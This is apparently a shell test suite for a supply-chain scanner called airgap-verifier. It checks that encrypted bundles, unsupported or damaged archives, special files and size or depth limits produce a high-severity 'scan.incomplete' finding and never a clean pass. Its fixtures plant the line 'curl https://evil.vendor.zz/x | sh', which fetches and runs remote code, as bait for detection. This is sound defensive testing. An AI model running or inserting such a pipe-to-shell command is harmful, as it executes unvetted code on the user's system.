# airgap-verifier scan fails closed on content it could not read: an encrypted exai bundle
# (both forms), formats it does not open (bzip2, a damaged 7z, age, ...), special files,
# files and archive entries over the size caps, nesting over the depth cap, damaged archives,
# unreadable files. Each is a scan.incomplete finding (high: the default gate fails), never a
# clean pass; the check cannot be disabled.
. "$EXAI_SRC/tests/cli/lib.sh"
PY=/usr/bin/python3
cd "$T"

# rules FILE.json -> "rule path severity" per line, sorted
findings() {
	$PY - "$1" <<'PY'
import json, sys
for f in json.load(open(sys.argv[1]))["findings"]:
    print(f["rule_id"], f["path"], f["severity"])
PY
}

# --- an encrypted bundle, both forms: a planted finding inside is unreadable, so the scan
# must say so (and point at 'airgap-verifier bundle --key'), never report 0 findings.
exai-bundle keygen --type site --out site >/dev/null
mkdir app
echo 'curl https://evil.vendor.zz/x | sh' >app/run.sh
printf 'channel: c\nsequence: 1\nexpires_in_days: 3\ntarget: {sites: [site-1]}\ncomponents:\n  - {type: software, name: app, version: "1", source: ./app}\n' >spec.yaml
exai-bundle create spec.yaml --out enc.exb --recipient site.pub >/dev/null
exai-bundle create spec.yaml --out encdir --recipient site.pub >/dev/null
exai-bundle create spec.yaml --out enc2.exb --recipient site.pub --format-version 2 >/dev/null
exai-bundle create spec.yaml --out plain.exb --no-encrypt >/dev/null
for b in enc.exb encdir enc2.exb; do
	expect_rc 1 airgap-verifier scan "$b" --format json --output "$b.json"
	findings "$b.json" >got.txt
	case $b in *.exb) want="scan.incomplete $b!index high" ;; *) want="scan.incomplete $b/index high" ;; esac
	[ "$(cat got.txt)" = "$want" ] || { cat got.txt >&2; fail "$b: want '$want'"; }
	expect_contains "$b.json" "encrypted exai bundle"
	expect_contains "$b.json" "airgap-verifier bundle --root ROOT --key SITE.key"
	expect_rc 1 airgap-verifier scan "$b"
	expect_contains "$T/out" "high [scan.incomplete]"
done
ok "an encrypted bundle (.exb and directory, format 2 and 1) is a high scan.incomplete finding naming 'bundle --key'"

expect_rc 1 airgap-verifier scan plain.exb --format json --output plain.json
findings plain.json >got.txt
[ "$(cat got.txt)" = "install.pipe-to-shell plain.exb!payload!run.sh high" ] ||
	{ cat got.txt >&2; fail "plain bundle"; }
ok "a plain bundle is scanned through, with no scan.incomplete"

# --- formats not opened, special files
mkdir t
echo 'curl https://evil.vendor.zz/x | sh' >t/run.sh
bzip2 -c t/run.sh >t/run.sh.bz2
printf '7z\274\257\047\034rest' >t/a.7z
printf 'age-encryption.org/v1\n-> X25519 abc\n' >t/secret.age
printf 'Salted__12345678' >t/blob.enc
$PY - <<'PY'
import zipfile
with zipfile.ZipFile("t/deflated.zip", "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("run.sh", "curl https://evil.vendor.zz/x | sh\n" * 20)
with zipfile.ZipFile("t/stored.zip", "w", zipfile.ZIP_STORED) as z:
    z.writestr("note.txt", "nothing here\n")
PY
mkfifo t/pipe
rm t/run.sh
expect_rc 1 timeout 20 airgap-verifier scan t --format json --output t.json
findings t.json | sort >got.txt
sort >want.txt <<'W'
install.pipe-to-shell t/deflated.zip!run.sh high
scan.incomplete t/a.7z high
scan.incomplete t/blob.enc high
scan.incomplete t/pipe high
scan.incomplete t/run.sh.bz2 high
scan.incomplete t/secret.age high
W
diff -u want.txt got.txt || fail "unread formats"
expect_contains t.json "not scanned: bzip2 data"
expect_contains t.json "archive damaged: no detail from libarchive"
expect_contains t.json "not a regular file"
ok "bzip2, a damaged 7z, age, openssl-enc and a FIFO are scan.incomplete; zips are scanned"

# --- caps and damage
mkdir c
head -c 5000 /dev/zero >c/big.bin
printf 'version: 1\nsettings:\n  max_file_size: 4096\n' >small.yaml
expect_rc 1 airgap-verifier scan c --rules small.yaml --format json --output c.json
[ "$(findings c.json)" = "scan.incomplete c/big.bin high" ] || fail "max_file_size"
expect_contains c.json "over max_file_size"
mkdir e && head -c 3000 /dev/zero >e/entry.bin && tar -C e -cf entries.tar entry.bin
printf 'version: 1\nsettings:\n  max_entry_size: 1024\n' >entry.yaml
expect_rc 1 airgap-verifier scan entries.tar --rules entry.yaml --format json --output e.json
[ "$(findings e.json)" = "scan.incomplete entries.tar!entry.bin high" ] || fail "max_entry_size"
tar -cf inner.tar -C e entry.bin && tar -cf outer.tar inner.tar
printf 'version: 1\nsettings:\n  max_archive_depth: 1\n' >depth.yaml
expect_rc 1 airgap-verifier scan outer.tar --rules depth.yaml --format json --output d.json
[ "$(findings d.json)" = "scan.incomplete outer.tar!inner.tar high" ] || fail "depth"
head -c 2000 outer.tar >damaged.tar
expect_rc 1 airgap-verifier scan damaged.tar --format json --output x.json
expect_contains x.json '"rule_id": "scan.incomplete"'
ok "max_file_size, max_entry_size, max_archive_depth and a damaged archive are scan.incomplete"

if [ "$(id -u)" != 0 ]; then
	mkdir u && echo secret >u/f && chmod 000 u/f
	expect_rc 1 airgap-verifier scan u --format json --output u.json
	[ "$(findings u.json)" = "scan.incomplete u/f high" ] || fail "unreadable"
	ok "an unreadable file is scan.incomplete"
fi

# --- the check cannot be turned off, and --no-default-rules keeps it
printf 'version: 1\nrules:\n  - {id: scan.incomplete, enabled: false}\n' >off.yaml
expect_rc 2 airgap-verifier scan enc.exb --rules off.yaml
expect_contains "$T/err" "the scan.incomplete check cannot be disabled"
printf 'version: 1\nrules:\n  - {id: my.rule, check: pattern, severity: low, triggers: [zzzz]}\n' >only.yaml
expect_rc 1 airgap-verifier scan encdir --rules only.yaml --no-default-rules --format json --output nd.json
[ "$(findings nd.json)" = "scan.incomplete encdir/index high" ] || fail "--no-default-rules"
ok "scan.incomplete cannot be disabled, and stays with --no-default-rules"

# --- the per-file finding cap: findings past it were not judged, so reaching it is a
# scan.incomplete finding (the gate fails), not a note. 200 public URLs (medium) pass
# --fail-on high; one more and the file is incomplete (high).
mkdir cap
i=0
while [ $i -lt 200 ]; do echo "curl https://host$i.vendor-telemetry.com/x" >>cap/run.sh; i=$((i + 1)); done
expect_rc 0 airgap-verifier scan cap --fail-on high --format json --output cap0.json
echo "curl https://last.vendor-telemetry.com/x" >>cap/run.sh
expect_rc 1 airgap-verifier scan cap --fail-on high --format json --output cap.json
$PY - cap.json <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
inc = [f for f in d["findings"] if f["rule_id"] == "scan.incomplete"]
assert len(inc) == 1 and "more than 200 findings in this file" in inc[0]["evidence"], inc
assert inc[0]["severity"] == "high" and d["passed"] is False, d["summary"]
PY
ok "past max_findings_per_file the file is scan.incomplete (high), not a note"
